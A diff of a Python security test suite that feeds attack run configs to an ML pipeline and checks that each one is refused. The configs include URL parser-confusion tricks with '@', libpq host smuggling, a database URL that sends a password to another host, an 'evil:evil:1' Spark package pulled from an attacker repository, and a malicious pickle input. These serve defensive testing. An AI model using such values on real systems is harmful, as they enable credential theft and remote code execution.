@@ -23,6 +23,7 @@ class World:
         kept: A folder with a file that must stay.
         delivered: A folder that runs may read, with good files and bad ones.
         mlflow: host:port of a server that the platform uses.
+        host: The attacker's machine as the platform sees it.
     """
 
     http: HttpListener
@@ -31,6 +32,7 @@ class World:
     kept: Path
     delivered: Path
     mlflow: str
+    host: str = "127.0.0.1"
 
 
 @dataclass(frozen=True)
@@ -42,7 +44,9 @@ class Attack:
         config: Run config; the version is added to it.
         refused: A regular expression that the reason must match; None: the run may succeed, as
             long as nothing leaves.
-        assets: To materialize; empty: the job ``MODEL``.
+        assets: To materialize; empty: the job.
+        job: What is launched when there are no assets.
+        ops: The only ones of the job that are launched, as `solidSelection`; empty: all.
         versions: Of MLflow for which it differs.
         is_quick: Part of `make test`.
     """
@@ -51,6 +55,8 @@ class Attack:
     config: Callable[[World], dict[str, Any]]
     refused: str | None
     assets: tuple[str, ...] = ()
+    job: str = MODEL
+    ops: tuple[str, ...] = ()
     versions: tuple[str, ...] = DEFAULT
     is_quick: bool = False
 
@@ -72,26 +78,27 @@ def on_spark(world: World, **options: Any) -> dict[str, Any]:
 
 
 DEPLOYMENT = ("model_deployment",)
+PICKLE = "picked.csv"
 EXTRA_JAVA = "spark.driver.extraJavaOptions"
 
 ATTACKS = [
     Attack(
         "tracking_uri: another server",
-        lambda w: resource("mlflow", tracking_uri=f"http://127.0.0.1:{w.http.port}"),
+        lambda w: resource("mlflow", tracking_uri=f"http://{w.host}:{w.http.port}"),
         "WINE_QUALITY_ALLOWED_TRACKING_URIS",
         versions=EVERY,
         is_quick=True,
     ),
     Attack(
         "tracking_uri: two hosts to two parsers (\\@)",
-        lambda w: resource("mlflow", tracking_uri=f"http://127.0.0.1:{w.http.port}\\@{w.mlflow}"),
+        lambda w: resource("mlflow", tracking_uri=f"http://{w.host}:{w.http.port}\\@{w.mlflow}"),
         "tracking_uri|WINE_QUALITY_ALLOWED_TRACKING_URIS",
         versions=EVERY,
         is_quick=True,
     ),
     Attack(
         "tracking_uri: two @",
-        lambda w: resource("mlflow", tracking_uri=f"http://a@127.0.0.1:{w.http.port}@{w.mlflow}"),
+        lambda w: resource("mlflow", tracking_uri=f"http://a@{w.host}:{w.http.port}@{w.mlflow}"),
         "tracking_uri|WINE_QUALITY_ALLOWED_TRACKING_URIS",
     ),
     Attack(
@@ -117,7 +124,7 @@ ATTACKS = [
     ),
     Attack(
         "csv_url: this machine",
-        lambda w: source(f"http://127.0.0.1:{w.http.port}/wines.csv"),
+        lambda w: source(f"http://{w.host}:{w.http.port}/wines.csv"),
         "WINE_QUALITY_ALLOWED_(SCHEMES|NETWORKS)",
         is_quick=True,
     ),
@@ -129,7 +136,7 @@ ATTACKS = [
     Attack(
         "local_server: what it says is shown",
         lambda w: deployment(
-            target="local", local_server=f"http://127.0.0.1:{w.http.port}", timeout_seconds=1
+            target="local", local_server=f"http://{w.host}:{w.http.port}", timeout_seconds=1
         ),
         "did not answer within|WINE_QUALITY_ALLOWED_ENDPOINTS",
         assets=DEPLOYMENT,
@@ -159,13 +166,13 @@ ATTACKS = [
     ),
     Attack(
         "base_path of the history: a web server",
-        lambda w: resource("wine_history", base_path=f"http://127.0.0.1:{w.http.port}/history"),
+        lambda w: resource("wine_history", base_path=f"http://{w.host}:{w.http.port}/history"),
         "wine_history.config.base_path is .* must be a folder or s3://",
     ),
     Attack(
         "metrics_history.url: another host gets the password",
         lambda w: resource(
-            "metrics_history", url=f"postgresql+psycopg2://metrics@127.0.0.1:{w.postgres.port}/x"
+            "metrics_history", url=f"postgresql+psycopg2://metrics@{w.host}:{w.postgres.port}/x"
         ),
         "WINE_QUALITY_ALLOWED_METRICS_URLS",
         is_quick=True,
@@ -174,7 +181,7 @@ ATTACKS = [
         "metrics_history.url: parameters of libpq",
         lambda w: resource(
             "metrics_history",
-            url=f"postgresql://127.0.0.1/metrics?host=127.0.0.1&port={w.postgres.port}",
+            url=f"postgresql://{w.host}/metrics?host={w.host}&port={w.postgres.port}",
         ),
         "WINE_QUALITY_ALLOWED_METRICS_URLS",
     ),
@@ -227,15 +234,29 @@ ATTACKS = [
             w,
             spark_options={
                 "spark.jars.packages": "evil:evil:1",
-                "spark.jars.repositories": f"http://127.0.0.1:{w.http.port}",
+                "spark.jars.repositories": f"http://{w.host}:{w.http.port}",
             },
         ),
         "WINE_QUALITY_ALLOWED_SPARK_OPTIONS",
     ),
     Attack(
         "spark_master: the attacker's",
-        lambda w: on_spark(w, spark_master=f"spark://127.0.0.1:{w.http.port}"),
+        lambda w: on_spark(w, spark_master=f"spark://{w.host}:{w.http.port}"),
         "WINE_QUALITY_ALLOWED_SPARK_MASTERS",
+    ),
+    Attack(
+        "ops.….inputs: a pickle, by a launch of one op",
+        lambda w: {
+            "ops": {
+                "sweep_points": {
+                    "inputs": {"sweep_data": {"pickle": {"path": f"{w.delivered}/{PICKLE}"}}}
+                }
+            }
+        },
+        r"ops\.sweep_points\.inputs is in the run config",
+        job="wine_quality_sweep",
+        ops=("sweep_points",),
+        is_quick=True,
     ),
     Attack(
         "file names that write into logs, and a link among good files",
